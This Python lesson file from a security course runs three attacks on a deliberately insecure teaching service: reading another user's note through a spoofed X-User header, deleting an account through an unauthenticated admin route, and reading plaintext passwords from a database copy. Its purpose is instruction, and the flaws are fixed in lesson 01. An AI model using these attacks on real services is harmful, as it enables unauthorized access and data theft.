"""Lesson 00: three attacks on the open service, none of which needs a password.

1. Read another user's note by asking for its id (API1:2023 broken object level
   authorization), sent as a user the service merely takes at their word (API2:2023).
2. Delete a user through the admin route with no credentials (API5:2023 broken function
   level authorization).
3. Read every password from a copy of the database (ASVS 5.0 V6: passwords must be stored
   in a form that resists offline attack).

The first function of each pair is the attack itself, with the same signature as the
notebook's exercise; the second runs it and judges the result.
"""

from __future__ import annotations

import sqlite3
from pathlib import Path

import httpx2

from lessons.attacks import ATTACKER, LEAVER, VICTIM, Attack, AttackResult, Scene, Variant


def steal_note(client: httpx2.Client, note_id: int) -> httpx2.Response:
    """As mallory, who has an account of her own, ask for someone else's note by its id."""
    return client.get(f"/notes/{note_id}", headers={"X-User": ATTACKER})


def delete_account(client: httpx2.Client, username: str) -> httpx2.Response:
    """Call the admin route with no credentials of any kind."""
    return client.delete(f"/admin/users/{username}")


def passwords_from(database: Path) -> dict[str, str]:
    """What anyone holding a copy of the database file reads in the users table."""
    # Opened read-only: the attacker needs nothing but a copy of the file.
    db = sqlite3.connect(f"file:{database}?mode=ro", uri=True)
    try:
        return dict(db.execute("SELECT username, password_hash FROM users ORDER BY username"))
    finally:
        db.close()


def run_steal_note(client: httpx2.Client, note_id: int, owner: str) -> AttackResult:
    response = steal_note(client, note_id)
    body = response.json() if response.status_code == 200 else {}
    stolen = isinstance(body, dict) and body.get("owner") == owner
    return AttackResult(
        name=f"{ATTACKER} reads note {note_id}, which belongs to {owner}",
        succeeded=stolen,
        evidence=f"HTTP {response.status_code}"
        + (f", body {body.get('body')!r}" if isinstance(body, dict) and body else ""),
    )


def run_delete_account(client: httpx2.Client, username: str) -> AttackResult:
    response = delete_account(client, username)
    return AttackResult(
        name=f"delete the account {username!r} with no credentials",
        succeeded=response.status_code == 204,
        evidence=f"HTTP {response.status_code}",
    )


def run_passwords_from(database: Path, real_passwords: dict[str, str]) -> AttackResult:
    """``real_passwords`` only judges the result: the attacker does not need it."""
    stored = passwords_from(database)
    exposed = sorted(name for name, value in stored.items() if real_passwords.get(name) == value)
    sample = next(iter(stored.values()), "")
    return AttackResult(
        name="read the passwords from a copy of the database",
        succeeded=bool(exposed),
        evidence=(f"{len(exposed)} of {len(stored)} passwords readable as typed"
                  + ("" if exposed else f"; the stored values begin {sample[:16]!r}")),
    )


# -- the lesson's attacks, each on a scene of its own ----------------------------------------------


def _steal(scene: Scene) -> AttackResult:
    return run_steal_note(scene.client, scene.accounts[VICTIM].notes[0].id, VICTIM)


def _delete(scene: Scene) -> AttackResult:
    return run_delete_account(scene.client, LEAVER)


def _passwords(scene: Scene) -> AttackResult:
    real = {name: account.password for name, account in scene.accounts.items()}
    return run_passwords_from(scene.store.path, real)


OPEN_SERVICE = Variant(upto=0, label="the open service")

# All three are stopped by lesson 01: it asks every caller for a password (so X-User proves
# nothing and the admin routes need a credential) and stores Argon2id hashes.
ATTACKS: tuple[Attack, ...] = (
    Attack("steal_note", f"{ATTACKER} reads {VICTIM}'s note by its id", _steal,
           OPEN_SERVICE, fixed_in=1),
    Attack("delete_account", "delete an account with no credentials", _delete,
           OPEN_SERVICE, fixed_in=1),
    Attack("passwords_from", "read the passwords from a copy of the database", _passwords,
           OPEN_SERVICE, fixed_in=1),
)
